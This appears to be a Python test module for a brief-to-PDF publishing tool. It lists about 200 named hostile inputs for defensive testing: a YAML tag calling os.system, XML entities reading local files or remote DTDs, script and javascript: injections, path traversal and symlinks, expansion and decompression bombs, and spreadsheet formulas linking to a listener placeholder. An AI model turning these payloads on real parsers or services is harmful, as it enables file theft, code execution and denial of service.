"""The attacks by files of content; docs/security.md lists their outcomes.

`@URL@` is the address of a listener, `@CANARY@` a file outside the project. An attack is an
edition of its own in one project, beside briefs with nothing wrong in them.
"""

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from textwrap import indent

from tests.attacks import payloads
from tests.attacks.payloads import svg
from tests.content.workbooks import write_sheets


@dataclass(frozen=True)
class Link:
    """A symbolic link."""

    to: str


@dataclass(frozen=True)
class Pipe:
    """A named pipe: reading it never ends."""


@dataclass(frozen=True)
class SparseFile:
    """A sparse file: it has a size, but uses no space on the disk."""

    size: int


File = str | bytes | Link | Pipe | SparseFile
Files = Mapping[str, File | Callable[[], bytes]]


@dataclass(frozen=True)
class Attack:
    """One attack: the kind of input it uses, and its files in the folder of an edition.

    `printed_text` is a text of the PDF if the attack is not refused: it is text only.
    """

    name: str
    input_kind: str
    files: Files
    printed_text: str = ""

    @property
    def slug(self) -> str:
        """The name of the brief that contains this attack."""
        return "-".join(_plain(self.name).split())


def _plain(name: str) -> str:
    return "".join(c if c.isascii() and c.isalnum() else " " for c in name.lower())


def text(words: str) -> str:
    """Write a brief with this text, which begins in line 6."""
    return _brief("text: |\n" + indent(words, "  "))


def block(yaml: str) -> str:
    """Write a brief with this block."""
    return _brief(yaml)


def _brief(yaml: str) -> str:
    parts = indent(yaml, "        ").strip()
    return (
        f"title: A title\nsections:\n  - heading: A heading\n    blocks:\n      - {parts}\n"
    )


def footnotes(number: int) -> str:
    """Write a text with this number of footnotes."""
    calls = "".join(f"a[^{n}] " for n in range(number))
    return calls + "\n\n" + "".join(f"[^{n}]: b\n\n" for n in range(number))


def picture(name: str) -> str:
    """Write a brief with this picture."""
    return block(f"picture: {{file: '{name}', alt: A picture.}}")


def chart(name: str) -> str:
    """Write a brief with a chart of this file."""
    return block(
        "figure: {title: It grows, subtitle: Per cent, chart: bar, label: where, "
        f"value: share, alt: Bars., source: Ours., data: '{name}'}}"
    )


def drawing(content: str, before: str = "", root: str = 'viewBox="0 0 300 200"') -> Files:
    """Write a brief with a drawing."""
    return {"en.yaml": picture("map.svg"), "map.svg": svg(content, before, root)}


def photo(data: Callable[[], bytes], name: str = "photo.png") -> Files:
    """Write a brief with a photograph."""
    return {"en.yaml": picture(name), name: data}


def data(csv: str | bytes) -> Files:
    """Write a brief with a chart of these rows."""
    return {"en.yaml": chart("data.csv"), "data.csv": csv}


def workbook(content: str | Callable[[], str], before: str = "") -> Files:
    """Write a brief with a chart of a workbook whose sheet has this XML."""

    def data() -> bytes:
        inner = content() if callable(content) else content
        sheet = f"{before}<worksheet>{inner}</worksheet>"
        return write_sheets({"Data": ""}, (), {"xl/sheet1.xml": sheet})

    return {"en.yaml": chart("data.xlsx"), "data.xlsx": data}


_NESTED_ALIASES = "a: &a [x, x, x, x, x, x, x, x, x, x]\n" + "".join(
    f"{new}: &{new} [{', '.join(['*' + old] * 10)}]\n"
    for old, new in zip("abcdefgh", "bcdefghi", strict=True)
)
_NESTED_ENTITIES = (
    '<!DOCTYPE svg [<!ENTITY a "ha">'
    + "".join(
        f'<!ENTITY {new} "{f"&{old};" * 10}">'
        for old, new in zip("abcdefgh", "bcdefghi", strict=True)
    )
    + "]>"
)
_NESTED_USES = (
    "<defs><g id='a0'><rect width='1' height='1'/></g>"
    + "".join(
        f"<g id='a{n}'>" + f"<use href='#a{n - 1}'/>" * 10 + "</g>" for n in range(1, 9)
    )
    + "</defs><use href='#a8'/>"
)

YAML: dict[str, Files | str] = {
    "100,000 quoted texts in braces": "a: {" + "a: 'b', " * 100_000 + "a: b} x",
    "aliases that expand to 10^9 values": _NESTED_ALIASES,
    "a recursive alias": "title: &a [*a]\n",
    "lists nested 100,000 deep": "title: " + "[" * 100_000,
    "keys nested 100,000 deep": "title: " + "{a: " * 100_000,
    "lists nested 60 deep": "title: " + "[" * 60 + "]" * 60 + "\n",
    "a tag that runs Python": text("Words.")
    + "standfirst: !!python/object/apply:os.system ['touch @CANARY@']\n",
    "a merge key": text("Words.") + "<<: {standfirst: One}\n",
    "a file of 2 MiB": "title: " + "x" * (2 << 20) + "\n",
    "a title of 300,000 characters": text("Words.").replace("A title", "x" * 300_000),
    "100,000 keys": "".join(f"k{n}: v\n" for n in range(100_000)),
    "a key of 100,000 characters": text("Words.") + "? " + "k" * 100_000 + "\n: v\n",
    "a list as a key": "? [a, b]\n: v\n" + text("Words."),
    "a NUL": text("Wo\0rds."),
    "a NUL written as an escape": text("Words.").replace("A title", '"A \\0title"'),
    "a surrogate written as an escape": text("Words.").replace(
        "A title", '"A \\ud800title"'
    ),
    "bidirectional control characters": text("Words \u202egnihton\u202c."),
    "bidirectional control characters in a title": text("Words.").replace(
        "A title", '"A \\u202eltit"'
    ),
    "UTF-16": {"en.yaml": text("Words.").encode("utf-16")},
    "two byte order marks": {
        "en.yaml": b"\xef\xbb\xbf\xef\xbb\xbf" + text("Words.").encode()
    },
    "bytes that are not UTF-8": {"en.yaml": bytes(range(256))},
    "overlong UTF-8": {"en.yaml": b"title: \xc0\xae\xc0\xae/\n"},
    "two documents in one file": text("Words.") + "---\n" + text("More."),
    "a directive": "%YAML 9.9\n---\n" + text("Words."),
    "a key with a special meaning in Python": text("Words.") + "__class__: x\n",
    "an empty file": "",
    "an integer of 10,000 digits": block(
        f"table: {{title: T, columns: [a], rows: [[{{text: a, across: {'9' * 10_000}}}]]}}"
    ),
}
MARKDOWN: dict[str, Files | str] = {
    "a script": text("<script src='@URL@'></script> Words."),
    "an iframe of a file": text('Words <iframe src="file://@CANARY@"></iframe>.'),
    "an attachment": text('<link rel="attachment" href="file://@CANARY@">'),
    "a style": text('<style>@import url("@URL@");</style>'),
    "a comment": text("Words <!-- and --> words."),
    "a javascript: link": text("[Words](javascript:alert(1))."),
    "a javascript: link with an escape": text(
        "[Words](&#106;ava&#x73;cript&colon;alert(1))."
    ),
    "a javascript: link in capitals": text("[Words](JaVaScRiPt:alert(1))."),
    "a link to a file": text("[Words](file://@CANARY@)."),
    "a data: link": text("[Words](data:text/html;base64,PHNjcmlwdD4=)."),
    "an http: link": text("[Words](@URL@)."),
    "a link by reference": text("[Words][a].\n\n[a]: file://@CANARY@"),
    "a link in angle brackets": text("Words <file://@CANARY@>."),
    "a link that breaks out of its quotes": text(
        '[Words](https://a.example/"onclick="alert(1)).'
    ),
    "a picture from the web": text("![Words](@URL@/a.png)"),
    "a picture of a file": text("![Words](file://@CANARY@)"),
    "an event attribute": text('[Words]{lang=en onclick="alert(1)"}.'),
    "a language tag that breaks out of its quotes": text(
        "[Words]{lang='en\"onclick=\"alert(1)'}."
    ),
    "template syntax": text("Words {{ 7 * 7 }} {% for i in range(9) %}."),
    "template syntax in a title": text("Words.").replace(
        "A title", "'{{ 7 * 7 }} {% raw %}'"
    ),
    "100,000 brackets": text("[" * 100_000),
    "3,000 brackets": text("[" * 3_000),
    "1,500 unclosed links": text("[a](" * 1_500),
    "6,000 unclosed asterisks": text("*a **a " * 2_000),
    "runs of 1 to 189 backticks": text(" ".join("`" * n for n in range(1, 190))),
    "6,000 backslashes": text("\\" * 6_000),
    "3,000 angle brackets": text("<" * 3_000),
    "2,000 unclosed comments": text("a <!-- " * 2_000),
    "quotations nested 5,000 deep": text(">" * 5_000 + " a"),
    "lists nested 1,000 deep": text("- " * 1_000 + "a"),
    "emphasis nested 1,500 deep": text("*a _b " * 1_500 + "c" + " b_ a*" * 1_500),
    "spans nested 900 deep": text("[" * 900 + "a" + "]{lang=fr}" * 900),
    "a table of 150 columns in text": text(
        "|" + "a|" * 150 + "\n|" + "-|" * 150 + "\n|" + "b|" * 150
    ),
    "a table of 40,000 rows in text": text("|a|b|\n|-|-|\n" + "|c|d|\n" * 40_000),
    "footnotes that call each other": text(
        "Words[^a].\n\n[^a]: One[^b].\n\n[^b]: Two[^a]."
    ),
    "a footnote that calls itself": text("Words[^a].\n\n[^a]: One[^a]."),
    "link references that expand": text(
        "[a]: https://a.example/" + "x" * 10_000 + "\n\n" + "[a] " * 100
    ),
    "3,900 citations": text("[@a] " * 3_900),
    "superscripts nested 150 deep": text("x^2^" * 150),
    "an address of 1,000 characters": text("https://" + "a." * 500),
    "3,000 quotation marks": text("\"'" * 1_500),
    "alternating Arabic and Latin": text("ab \u0628\u062a " * 1_000),
    "entities": text("&lt;script&gt; &#0; &#xD800; &#x110000; &nbsp;"),
}
SVG: dict[str, Files | str] = {
    "a style of 80,000 letters": drawing(f"<style>{'a' * 80_000}</style>"),
    "a style of 40,000 comments": drawing(f"<style>{'/*' * 40_000}</style>"),
    "100,000 spaces in a reference": drawing(
        f'<rect width="9" height="9" fill="url({" " * 100_000}#a)"/>'
    ),
    "a width of 100,000 digits": {
        "en.yaml": picture("map.svg"),
        "map.svg": svg("", root=f'width="{"1" * 100_000}x" height="9"'),
    },
    "10,000 selectors of 6,000 references": drawing(
        f"<style>{'a,' * 10_000}a{{fill:{'url(#b)' * 6_000}}}</style>"
    ),
    "an entity that is a file": drawing(
        "<title>&e;</title>", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file://@CANARY@">]>'
    ),
    "a parameter entity from the web": drawing(
        "", '<!DOCTYPE svg [<!ENTITY % e SYSTEM "@URL@"> %e;]>'
    ),
    "a document type from the web": drawing("", '<!DOCTYPE svg SYSTEM "@URL@/a.dtd">'),
    "entities that expand": drawing("<title>&i;</title>", _NESTED_ENTITIES),
    "an embedded picture from the web": drawing(
        '<image width="9" height="9" href="@URL@"/>'
    ),
    "an embedded picture from a file path": drawing(
        '<image width="9" height="9" xlink:href="file://@CANARY@"/>'
    ),
    "an embedded picture by name": drawing('<image width="9" height="9" href="map.svg"/>'),
    "a use from the web": drawing('<use href="@URL@#a"/>'),
    "a use of a use of a use": drawing(_NESTED_USES),
    "a use of itself": drawing('<g id="a"><use href="#a"/></g>'),
    "a pattern of itself": drawing(
        '<pattern id="a" width="1" height="1"><rect width="1" height="1" fill="url(#a)"/>'
        '</pattern><rect width="9" height="9" fill="url(#a)"/>'
    ),
    "a mask of itself": drawing(
        '<mask id="a"><rect mask="url(#a)" width="9" height="9"/></mask>'
        '<rect mask="url(#a)" width="9" height="9"/>'
    ),
    "a gradient of itself": drawing(
        '<linearGradient id="a" href="#a"/><rect width="9" height="9" fill="url(#a)"/>'
    ),
    "an external style sheet": drawing("", '<?xml-stylesheet href="@URL@"?>'),
    "an @import in its styles": drawing('<style>@import "@URL@";</style>'),
    "a font from the web": drawing(
        "<style>@font-face { font-family: a; src: url(@URL@) }</style>"
    ),
    "an address in its styles": drawing("<style>rect { fill: url(@URL@) }</style>"),
    "an escaped address in its styles": drawing(
        "<style>rect { fill: u\\72l(@URL@) }</style>"
    ),
    "an address in an attribute": drawing(
        '<rect width="9" height="9" style="fill: URL( \'@URL@#a\')"/>'
    ),
    "a script in SVG": drawing("<script>alert(1)</script>"),
    "an event attribute in SVG": drawing('<g onload="alert(1)"/>'),
    "embedded HTML": drawing(
        '<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">a</body></foreignObject>'
    ),
    "a filter": drawing(
        '<filter id="a"><feTurbulence numOctaves="99999"/></filter>'
        '<rect width="9" height="9" filter="url(#a)"/>'
    ),
    "an animation": drawing(
        '<rect width="9" height="9"><animate attributeName="x" to="9"/></rect>'
    ),
    "a drawing 10^9 units wide": drawing("", root='viewBox="0 0 1e9 1e9"'),
    "a drawing 10^300 units wide": drawing("", root='width="1e300" height="1e300"'),
    "a viewBox without width and height": drawing("", root='viewBox="0 0 0 0"'),
    "300,000 elements": drawing("<g/>" * 300_000),
    "elements nested 10,000 deep": drawing("<g>" * 10_000 + "</g>" * 10_000),
    "a path of 200 kB": drawing('<path d="M0 0' + "L1 1" * 50_000 + '"/>'),
    "a pattern with tiny tiles": drawing(
        '<pattern id="a" width="0.0001" height="0.0001" patternUnits="userSpaceOnUse">'
        '<rect width="1" height="1"/></pattern>'
        '<rect width="300" height="200" fill="url(#a)"/>'
    ),
    "tiny dashes": drawing(
        '<path d="M0 0L1000000 0" stroke="red" stroke-dasharray="0.00001"/>'
    ),
    "unlimited markers": drawing(
        '<marker id="a" markerWidth="1" markerHeight="1"><path d="M0 0'
        + "L1 1" * 100
        + '"/></marker><path marker-mid="url(#a)" d="M0 0'
        + "L1 1" * 50_000
        + '"/>'
    ),
    "invalid numbers": drawing(
        '<rect width="NaN" height="inf" x="1e999" transform="scale(0) rotate(nan)"/>'
    ),
    "a tiny viewBox": drawing("", root='width="300" height="200" viewBox="0 0 1e-9 1e-9"'),
    "an unknown encoding": {
        "en.yaml": picture("map.svg"),
        "map.svg": b'<?xml version="1.0" encoding="x-none"?><svg/>',
    },
    "a compressed drawing": photo(
        lambda: __import__("gzip").compress(svg("").encode(), mtime=0), "map.svg"
    ),
    "a web page as a drawing": {
        "en.yaml": picture("map.svg"),
        "map.svg": "<html><script>alert(1)</script></html>",
    },
}
PICTURES: dict[str, Files | str] = {
    "a hundred million pixels": photo(lambda: payloads.png(10_000, 10_000)),
    "a side of 2^31 pixels": photo(
        lambda: payloads.png_of_one_claimed(2**31 - 1, 2**31 - 1)
    ),
    "a header with more pixels than the data": photo(
        lambda: payloads.png_of_one_claimed(4_000, 4_000)
    ),
    "a picture without pixels": photo(lambda: payloads.png_of_one_claimed(0, 0)),
    "24,000 progressive scans": photo(lambda: payloads.progressive(24_000), "photo.jpg"),
    "24 million pixels": photo(lambda: payloads.png(4_900, 4_900)),
    "a text chunk that inflates to 80 MB": photo(
        lambda: payloads.png(800, 600, more=payloads.inflating(b"zTXt", 80 << 20))
    ),
    "a profile that inflates to 80 MB": photo(
        lambda: payloads.png(800, 600, kind=2, more=payloads.inflating(b"iCCP", 80 << 20))
    ),
    "half a JPEG": photo(lambda: payloads.picture("JPEG")[:3_000], "photo.jpg"),
    "a PDF appended to a JPEG": photo(
        lambda: payloads.picture("JPEG") + b"%PDF-1.4 @CANARY@", "photo.jpg"
    ),
    "a web page appended to a PNG": photo(
        lambda: payloads.png(800, 600) + b"<script>alert(1)</script>"
    ),
    "a web page named .png": photo(lambda: b"<html><script>alert(1)</script></html>"),
    "a PDF named .png": photo(lambda: b"%PDF-1.4\n"),
    "PostScript named .png": photo(
        lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n(@CANARY@) (r) file\n"
    ),
    "PostScript after a binary header": photo(
        lambda: b"\xc5\xd0\xd3\xc6" + bytes(26) + b"%!PS\n"
    ),
    "a TIFF named .png": photo(lambda: payloads.picture("TIFF")),
    "a GIF named .png": photo(lambda: payloads.picture("GIF", "L")),
    "an animated PNG": photo(payloads.animated_png),
    "a CMYK JPEG": photo(lambda: payloads.picture("JPEG", "CMYK"), "photo.jpg"),
    "a rotated JPEG with a circular EXIF": photo(
        lambda: payloads.with_exif(
            b"II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
        ),
        "photo.jpg",
    ),
    "a JPEG with garbage in EXIF": photo(
        lambda: payloads.with_exif(bytes(range(256)) * 200), "photo.jpg"
    ),
    "a picture file of a terabyte": {
        "en.yaml": picture("photo.png"),
        "photo.png": SparseFile(1 << 40),
    },
    "an empty picture": photo(lambda: b""),
}
CSV: dict[str, Files | str] = {
    "a formula": data('where,share\n"=HYPERLINK(""@URL@"")",1\n@SUM(A1),2\n'),
    "10,000 columns": data(",".join(f"c{n}" for n in range(10_000)) + "\n"),
    "10,000 rows": data("where,share\n" + "a,1\n" * 10_000),
    "a NUL in data": data("where,share\na\0,1\n"),
    "an unclosed quotation mark": data('where,share\n"a,1\n' + "b,2\n" * 1_000),
    "a cell of 500,000 characters": data("where,share\n" + "a" * 500_000 + ",1\n"),
    "a number of 100,000 digits": data("where,share\na," + "9" * 100_000 + "\n"),
    "an invalid number": data("where,share\na,NaN\nb,1e999\n"),
    "a negative zero": data("where,share\na,-0\nb,-1\n"),
    "a column called __class__": data("__class__,where,share\na,b,1\n"),
    "markup in a label": data("where,share\n<b>a</b>,1\n{{ 7 * 7 }},2\n"),
    "a database file": {
        "en.yaml": chart("data.csv"),
        "data.csv": b"SQLite format 3\0" + bytes(9_000),
    },
}
WORKBOOKS: dict[str, Files | str] = {
    "a zip bomb": workbook(lambda: " " * 50_000_000),
    "entities in a workbook": workbook(
        "&c;", '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY c "&a;&a;&a;&a;">]>'
    ),
    "an entity of a file": workbook(
        "&a;", '<!DOCTYPE x [<!ENTITY a SYSTEM "file://@CANARY@">]>'
    ),
    "100,000 merged areas of cells": workbook(
        "<sheetData/><mergeCells>"
        + '<mergeCell ref="A1:XFD1048576"/>' * 100_000
        + "</mergeCells>"
    ),
    "a cell in the last row and column": workbook(
        '<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'
    ),
    "100,000 nested elements": workbook("<a>" * 100_000 + "</a>" * 100_000),
    "201,000 numbers": workbook(
        f"<sheetData>{('<row>' + '<c><v>1</v></c>' * 300 + '</row>') * 670}</sheetData>"
    ),
    "an old workbook with macros": {
        "en.yaml": chart("data.xlsx"),
        "data.xlsx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9_000),
    },
}
PATHS: dict[str, Files | str] = {
    "a path to a parent folder": picture("../../../../canary.svg"),
    "an encoded path to a parent folder": picture("..%2f..%2f..%2fcanary.svg"),
    "a path to a parent folder with backslashes": picture("..\\..\\canary.svg"),
    "an absolute path": picture("@CANARY@"),
    "an absolute path for data": chart("@CANARY@"),
    "a web address as a file": picture("@URL@/a.png"),
    "a file: address": picture("file://@CANARY@"),
    "a Windows device": picture("CON"),
    "an NTFS data stream": picture("a.png::$DATA"),
    "a file name of 5,000 characters": picture("a" * 5_000 + ".png"),
    "a file name with a NUL": picture("a.png").replace("'a.png'", '"a\\0.png"'),
    "a path in another user's home": picture("~root/a.png"),
    "a file name in another case": {"en.yaml": picture("MAP.SVG"), "map.svg": svg("")},
    "the folder itself": picture("."),
    "the text itself": picture("en.yaml"),
    "a symbolic link to the outside, for a picture": {
        "en.yaml": picture("map.svg"),
        "map.svg": Link("@CANARY@"),
    },
    "a symbolic link to the outside, for data": {
        "en.yaml": chart("data.csv"),
        "data.csv": Link("@CANARY@"),
    },
    "a symbolic link to the outside, for a text": {"en.yaml": Link("@CANARY@")},
    "a symbolic link to the outside, for edition.yaml": {
        "en.yaml": text("Words."),
        "edition.yaml": Link("@CANARY@"),
    },
    "a circular symbolic link": {"en.yaml": picture("map.svg"), "map.svg": Link("map.svg")},
    "a text that is a circular symbolic link": {"en.yaml": Link("en.yaml")},
    "a folder that is a symbolic link to the outside": {
        "en.yaml": picture("out/canary.svg"),
        "out": Link("../../../.."),
    },
    "a symbolic link to an endless device": {
        "en.yaml": picture("map.svg"),
        "map.svg": Link("/dev/zero"),
    },
    "a text that is an endless device": {"en.yaml": Link("/dev/zero")},
    "a picture that is a pipe": {"en.yaml": picture("map.svg"), "map.svg": Pipe()},
    "data that are a pipe": {"en.yaml": chart("data.csv"), "data.csv": Pipe()},
    "a text that is a pipe": {"en.yaml": Pipe()},
    "an edition.yaml that is a pipe": {"en.yaml": text("Words."), "edition.yaml": Pipe()},
    "a text file of a terabyte": {"en.yaml": SparseFile(1 << 40)},
    "a text that is a folder": {"en.yaml/a.png": b""},
}
LAYOUT: dict[str, Files | str] = {
    "a word of 300,000 characters": text("x" * 300_000),
    "a word of 19,000 characters": text("x" * 19_000),
    "an Arabic word of 3,000 characters": text("[" + "\u0628" * 3_000 + "]{lang=ar}"),
    "a letter with 2,000 accents": text("a" + "\u0301" * 2_000),
    "3,000 no-break spaces": text("a" + "\u00a0" * 3_000 + "b"),
    "a title of 9,000 characters": text("Words.").replace("A title", "x" * 9_000),
    "a title of 200 words": text("Words.").replace("A title", "word " * 200),
    "a table of 10,000 rows": block(
        "table: {title: T, columns: [a, b], rows: [" + "[c, d]," * 10_000 + "]}"
    ),
    "a cell that spans a million columns": block(
        "table: {title: T, columns: [a], rows: [[{text: a, across: 1000000}]]}"
    ),
    "a cell that spans a million rows": block(
        "table: {title: T, columns: [a], rows: [[{text: a, down: 1000000}]]}"
    ),
    "a table of 100 columns": block(
        f"table: {{title: T, columns: [{'a,' * 100}], rows: [[{'b,' * 100}]]}}"
    ),
    "4,000 footnotes": text(footnotes(4_000)),
    "30 footnotes in one paragraph": text(footnotes(30)),
    "a footnote of 1,000 words": text("Words[^1].\n\n[^1]: " + "word " * 1_000),
    "4,500 sections": "title: T\nsections:\n"
    + "- {heading: H, blocks: [{text: w}]}\n" * 4_500,
    "1,000 pull figures": "title: T\npull_figures:\n"
    + "- {figure: '1', text: w}\n" * 1_000
    + "sections: [{heading: H, blocks: [{text: w}]}]\n",
    "a side note of 1,000 words": block("side_note: {text: " + "word " * 1_000 + "}"),
}

# Attacks that are not refused: the PDF must have this text, and it is only text.
PRINTED = {
    "template syntax": "{{ 7 * 7 }}",
    "template syntax in a title": "{{ 7 * 7 }}",
    "a PDF appended to a JPEG": "A heading",
    "a web page appended to a PNG": "A heading",
    "a formula": "=HYPERLINK",
    "a column called __class__": "It grows",
    "markup in a label": "<b>a</b>",
    "two byte order marks": "Words.",
    "a link that breaks out of its quotes": "Words",
    "a language tag that breaks out of its quotes": "onclick",
    "1,500 unclosed links": "[a](",
    "2,000 unclosed comments": "a <!--",
    "6,000 backslashes": "\\\\",
    "link references that expand": "a",
    "an address of 1,000 characters": "a.a.a",
    "a style of 80,000 letters": "A heading",
    "a style of 40,000 comments": "A heading",
    "100,000 spaces in a reference": "A heading",
    "10,000 selectors of 6,000 references": "A heading",
    "a path of 200 kB": "A heading",
    "a pattern with tiny tiles": "A heading",
    "tiny dashes": "A heading",
    "24 million pixels": "A heading",
    "a rotated JPEG with a circular EXIF": "A heading",
    "a JPEG with garbage in EXIF": "A heading",
    "a negative zero": "It grows",
    "a letter with 2,000 accents": "A heading",
    "30 footnotes in one paragraph": "A heading",
}

_BY_INPUT: dict[str, dict[str, Files | str]] = {
    "YAML": YAML,
    "Markdown": MARKDOWN,
    "SVG": SVG,
    "Pictures": PICTURES,
    "CSV": CSV,
    "Workbooks": WORKBOOKS,
    "Paths": PATHS,
    "Layout": LAYOUT,
}
ATTACKS = tuple(
    Attack(
        name,
        input_kind,
        {"en.yaml": files} if isinstance(files, str) else files,
        PRINTED.get(name, ""),
    )
    for input_kind, attacks in _BY_INPUT.items()
    for name, files in attacks.items()
)
